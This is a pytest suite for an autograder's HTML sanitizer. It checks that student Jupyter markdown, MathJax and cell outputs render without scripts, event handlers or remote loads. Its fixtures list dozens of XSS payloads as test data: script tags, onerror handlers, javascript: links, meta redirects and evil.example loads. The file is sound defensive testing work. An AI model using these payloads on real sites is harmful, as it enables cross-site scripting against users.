"""Nothing that a student handed in runs, loads or leads anywhere in a reader's browser."""

import base64
import collections
import functools
import html.parser
import struct
import zlib

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbformat import v4

from autograders.sandbox import sanitize

TAGS = {"a", "abbr", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "hr", "img"}
TAGS |= {"li", "ol", "p", "pre", "span", "strong", "sub", "sup", "table", "tbody", "td", "th"}
TAGS |= {"thead", "tr", "ul"}
"""The elements that may appear for a student's texts and outputs."""


def png(width=1, height=1):
    """Return a real PNG picture as base64."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress((b"\0" + b"\x80" * width) * height)
    data = sanitize.PNG + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return base64.b64encode(data).decode()


class Elements(html.parser.HTMLParser):
    """Counts elements, and the attributes that run, load or lead somewhere."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.risky = collections.Counter(), collections.Counter()
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags[tag] += 1
        for name, value in attributes:
            value = (value or "").strip()
            harmless = value.startswith(("#", "data:image/png;base64,"))
            # an address in plain sight, which waits for a person's click
            harmless = harmless or (tag == "a" and value.startswith(("http://", "https://")))
            loads = name in ("src", "href", "action", "formaction", "data", "srcdoc", "srcset")
            loads = loads or name in ("poster", "background", "xlink:href", "ping", "http-equiv")
            if name.startswith("on") or name == "style" or (loads and not harmless):
                self.risky[tag, name, value[:80]] += 1


@functools.cache
def empty(template):
    """Return an exporter, and the elements of the page of an empty notebook."""
    exporter = HTMLExporter(template_name=template)
    return exporter, Elements(exporter.from_notebook_node(v4.new_notebook())[0])


def added(cells, template="lab"):
    """Return the elements that cells add to the page of an empty notebook."""
    exporter, nothing = empty(template)
    page = Elements(exporter.from_notebook_node(v4.new_notebook(cells=cells))[0])
    return page.tags - nothing.tags, page.risky - nothing.risky


LINK = "javascript:alert(1)"
MARKDOWN = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "a script in a line": "text <script src=//evil.example/x.js></script> text",
    "an unclosed script": "<script>alert(1)",
    "a script after a null": "<\x00script>alert(1)</script>",
    "a script over two lines": "<script\n>alert(1)</script\n>",
    "a doubled script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a picture with a handler": "<img src=x onerror=alert(1)>",
    "an svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "math with a link": f"<math href='{LINK}'>x</math>",
    "an iframe": f"<iframe src='{LINK}'></iframe>",
    "an object": "<object data='//evil.example'></object>",
    "a form": "<form action='//evil.example'><input type=submit></form>",
    "a style": "<style>body{display:none}</style>",
    "a stylesheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "a redirect": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "another base": "<base href=//evil.example/>",
    "a comment": "<!-- <script>alert(1)</script> -->",
    "a comment for old browsers": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "an instruction": "<?php echo 1 ?><!DOCTYPE html><![CDATA[x]]>",
    "an end tag": "</div></div></body><p>",
    "a button": "<button onclick='alert(1)'>x</button>",
    "a link": f"[click]({LINK})",
    "a link with a space": f"[click] ({LINK})",
    "a link in angles": f"[click](<{LINK}>)",
    "a link with a title": f'[click]({LINK} "title")',
    "a link over two lines": f"[click](\n{LINK}\n)",
    "a link with an entity": "[click](javascript&colon;alert(1))",
    "a link of data": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "a link of vbscript": "[click](vbscript:alert(1))",
    "a link by reference": f"[click][there]\n\n[there]: {LINK}",
    "a link by a short reference": f"[there]\n\n[there]: {LINK}",
    "a reference over two lines": f"[click][there]\n\n[there]:\n{LINK}",
    "a reference in a quote": f"[click][there]\n\n> [there]: {LINK}",
    "a link in a link": f"[[click]({LINK})]({LINK})",
    "an escaped link": f"[click\\]({LINK}) [click]\\({LINK})",
    "a link around a picture": f"[![x](//evil.example/x.png)]({LINK})",
    "an automatic link": f"<{LINK}>",
    "an automatic link to elsewhere": "<http://evil.example> <evil@evil.example>",
    "a remote picture": "![x](http://evil.example/x.png)",
    "a remote picture of no scheme": "![x](//evil.example/x.png)",
    "a picture by reference": "![x][y]\n\n[y]: http://evil.example/x.png",
    "a picture of a script": f"![x]({LINK})",
    "a picture of an svg": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "a picture with a title": "![x](//evil.example 'x\" onerror=\"alert(1)')",
    "a picture that is attached": "![x](attachment:x.svg)",
    "a footnote": f"text[^1]\n\n[^1]: [click]({LINK})",
    "code that ends early": "```\n</code></pre><script>alert(1)</script>\n```",
    "code of a language": '```"><script>alert(1)</script>\nx\n```',
    "code in a line": "`</code><script>alert(1)</script>`",
    "a heading": '# <img src=x onerror=alert(1)>\n\n## x" onclick="alert(1)',
    "a table": "| a |\n|---|\n| <script>alert(1)</script> |",
    "a template": "{{ 1 + 1 }} {% raw %} ${alert(1)}",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "half an entity": "&lt script>alert(1)",
    "a line separator": "<\u2028script>alert(1)</script>",
    "full width": "\uff1cscript\uff1ealert(1)",
    "an overlong bracket": "<\u200bscript>alert(1)</script>",
    "a tag with a colon": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "a tag with a slash": "<img/src=x/onerror=alert(1)>",
}
MATHJAX = {
    "a link": rf"$\href{{{LINK}}}{{x}}$",
    "a link without braces": r"$$\href1{x}$$",
    "a url": rf"$\url{{{LINK}}}$",
    "a class": r"$\class{button}{x}$",
    "an id": r"\begin{equation}\cssId{x}{y}\end{equation}",
    "a style": r"$\style{position:fixed}{x}$",
    "an extension": r"$\require{action}\toggle{x}{y}\endtoggle$",
    "an element": rf'$\mmlToken{{mi}}[href="{LINK}"]{{x}}$',
    "a picture": r"$\includegraphics{//evil.example/x.png}$",
    "a definition": rf"$\let\x\href \newcommand{{\y}}{{\href{{{LINK}}}{{x}}}}$",
    "an upright name": r"$\unicode[x]{65}$",
}


@pytest.mark.parametrize("template", ["lab", "classic", "basic"])
@pytest.mark.parametrize("name", MARKDOWN)
def test_markdown_makes_no_element_that_acts(name, template):
    tags, risky = added([v4.new_markdown_cell(sanitize.markdown(MARKDOWN[name]))], template)
    assert tags.keys() <= TAGS
    assert not risky


@pytest.mark.parametrize("name", MATHJAX)
def test_mathematics_keeps_no_command_that_links_or_loads(name):
    kept = sanitize.markdown(MATHJAX[name])
    words = ("href", "url", "class", "cssId", "style", "require", "mmlToken", "includegraphics")
    assert not any(f"\\{word}" in kept for word in (*words, "unicode"))
    assert "\\backslash " in kept


@pytest.mark.parametrize(
    "text",
    [
        "Because $a < b$, and $b<2$: **bold**, `code`.",
        "- a list\n- of things\n\n1. one\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        r"$$\frac{\lambda}{2m} \sum_l \lVert W^{[l]} \rVert^2 \hbar \urcorner \classic$$",
        "x[0](1) is [fine] & so is a_b",
    ],
)
def test_an_honest_answer_reads_as_it_was_written(text):
    assert sanitize.markdown(text).replace("] (", "](").replace("&lt;", "<") == text


@pytest.mark.parametrize(
    "text",
    [
        "$x<y$ <img src=x onerror=alert(1)> </script> <!-- a --> 1 < 2",
        "![a](b) [c](d)\n\n[e]: http://f",
        "I wrote &amp; and &lt; 3.",
        *(text for text in MARKDOWN.values() if "] (" not in text and "&lt;" not in text),
        *MATHJAX.values(),
    ],
)
def test_where_it_is_shown_as_plain_text_stands_what_was_written(text):
    assert sanitize.as_written(sanitize.markdown(text)) == sanitize._text(text)


@pytest.mark.parametrize("name", MARKDOWN)
def test_raw_text_is_shown_letter_for_letter(name):
    tags, risky = added([v4.new_markdown_cell(sanitize.preformatted(MARKDOWN[name]))])
    assert tags.keys() <= {"div", "pre", "code", "span"}
    assert not risky


# --- outputs ---

SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(1)>"
OTHER_KINDS = (
    *("text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript"),
    *("application/json", "application/pdf", "application/vnd.jupyter.widget-view+json"),
    *("image/jpeg", "image/gif", "application/vnd.vega.v5+json", "text/x-made-up"),
)


def shown(**data):
    return {"output_type": "display_data", "data": data, "metadata": {}}


def bundle(kind, value):
    return {"output_type": "execute_result", "data": {kind: value}, "metadata": {}}


OUTPUTS = {
    **{kind: bundle(kind, SCRIPT) for kind in OTHER_KINDS},
    "a list for text": bundle("text/plain", [SCRIPT, 3, None]),
    "text": bundle("text/plain", SCRIPT),
    "a stream": {"output_type": "stream", "name": "stdout", "text": SCRIPT},
    "a stream of another name": {"output_type": "stream", "name": SCRIPT, "text": SCRIPT},
    "an error": {
        "output_type": "error",
        "ename": SCRIPT,
        "evalue": SCRIPT,
        "traceback": [SCRIPT, f"\x1b[31m{SCRIPT}\x1b[0m", 3],
    },
    "colours": {"output_type": "stream", "name": "stdout", "text": "\x1b[31;1mred\x1b[0m"},
    "a terminal's link": {
        "output_type": "stream",
        "name": "stderr",
        "text": f"\x1b]8;;{LINK}\x07click\x1b]8;;\x07",
    },
    "a picture that is none": bundle("image/png", base64.b64encode(SCRIPT.encode()).decode()),
    "a picture that ends its attribute": bundle("image/png", f'"><script>alert(1)</script>{png()}'),
    "a picture that is a number": bundle("image/png", 3),
    "a picture too large": bundle("image/png", png() + "A" * sanitize.LARGEST_PICTURE),
    "a picture after its end": bundle("image/png", png()[:-4]),
    "a picture with an alt text": {
        **bundle("image/png", png()),
        "metadata": {"image/png": {"alt": "\"'><script>alert(1)</script>`onerror=x"}},
    },
    "a picture with sizes": {
        **bundle("image/png", png()),
        "metadata": {"image/png": {"width": '1" onload="alert(1)'}, "isolated": True},
    },
    "metadata that is a list": {**bundle("image/png", png()), "metadata": [1]},
    "data that is a list": {"output_type": "display_data", "data": [1], "metadata": {}},
    "no data": {"output_type": "display_data"},
    "an unknown kind": {"output_type": "pickle", "data": {"text/plain": "x"}},
    "a kind that is a list": {"output_type": ["stream"], "text": "x"},
    "no dict": "text",
    "nothing": None,
    "an update": {"output_type": "update_display_data", "data": {"text/html": SCRIPT}},
}


@pytest.mark.parametrize("template", ["lab", "classic"])
@pytest.mark.parametrize("name", OUTPUTS)
def test_outputs_make_no_element_that_acts(name, template):
    kept = sanitize.outputs([OUTPUTS[name]])
    cell = v4.new_code_cell("", outputs=kept)
    nbformat.validate(v4.new_notebook(cells=[cell]))
    tags, risky = added([cell], template)
    assert tags.keys() <= {"div", "pre", "span", "img"}
    assert not risky
    for output in kept:
        assert output.output_type in ("stream", "error", "display_data")
        assert output.get("data", {}).keys() <= {"text/plain", "image/png"}


@pytest.mark.parametrize("kind", OTHER_KINDS)
def test_other_kinds_leave_a_word(kind):
    (output,) = sanitize.outputs([bundle(kind, SCRIPT)])
    assert output.data == {"text/plain": sanitize.LEFT_OUT}
    (output,) = sanitize.outputs(
        [{**bundle(kind, SCRIPT), "data": {kind: 1, "text/plain": "words"}}]
    )
    assert output.data == {"text/plain": "words"}


def test_a_picture_and_its_text_alternative_stay():
    metadata = {"image/png": {"alt": "Two curves & a gap"}}
    (output,) = sanitize.outputs([{**bundle("image/png", png(3, 2)), "metadata": metadata}])
    assert output.data["image/png"] == png(3, 2)
    assert output.metadata == {"image/png": {"alt": "Two curves  a gap"}}
    tags, risky = added([v4.new_code_cell("", outputs=[output])])
    assert tags["img"] == 1
    assert not risky


def test_no_output_can_be_taken_for_a_score():
    """nbgrader takes the first execute_result of a graded cell."""
    kept = sanitize.outputs([bundle("text/plain", "20.0"), bundle("image/png", png())])
    assert [output.output_type for output in kept] == ["display_data"] * 2


def test_streams_in_a_row_become_one():
    out, err = ({"output_type": "stream", "name": n, "text": "x"} for n in ("stdout", "stderr"))
    kept = sanitize.outputs([out, out, err, out])
    assert [(output.name, output.text) for output in kept] == [
        *(("stdout", "xx"), ("stderr", "x"), ("stdout", "x"))
    ]


def test_what_is_too_long_is_cut():
    long = {"output_type": "stream", "name": "stdout", "text": "x" * 15_000}
    (kept,) = sanitize.outputs([long, long, long])
    assert kept.text == "x" * sanitize.LARGEST_TEXT + sanitize.CUT.format(
        limit=sanitize.LARGEST_TEXT
    )
    error = {"output_type": "error", "ename": "E" * 900, "evalue": "v", "traceback": ["y" * 50_000]}
    (kept,) = sanitize.outputs([error])
    assert len(kept.ename) == 300
    assert sum(map(len, kept.traceback)) < sanitize.LARGEST_TEXT + 100
    many = [shown(**{"text/plain": str(i)}) for i in range(500)]
    assert len(sanitize.outputs(many)) == sanitize.MOST_OUTPUTS


def test_an_error_names_no_installed_file():
    frames = ["ValueError  Traceback", "Cell In[1], line 1\n----> 1 f()", "File /usr/lib/x.py:3"]
    error = {"output_type": "error", "ename": "E", "evalue": "v", "traceback": frames}
    (kept,) = sanitize.outputs([error])
    assert "\n".join(kept.traceback) == "\n".join(frames[:2])


def test_code_is_shown_and_not_run():
    cell = v4.new_code_cell(f"'''{SCRIPT}'''\n# {SCRIPT}")
    tags, risky = added([cell])
    assert tags.keys() <= {"div", "pre", "span"}
    assert not risky


def test_the_search_finds_what_is_not_made_inert():
    """The tests above can fail: without inert, the page holds what they look for."""
    for name in ("a script", "a picture with a handler", "a remote picture", "a redirect"):
        tags, risky = added([v4.new_markdown_cell(MARKDOWN[name])])
        assert risky or not tags.keys() <= TAGS, name
    output = v4.new_output("display_data", {"text/html": SCRIPT})
    tags, risky = added([v4.new_code_cell("", outputs=[output])])
    assert tags["script"] == 1
    assert risky
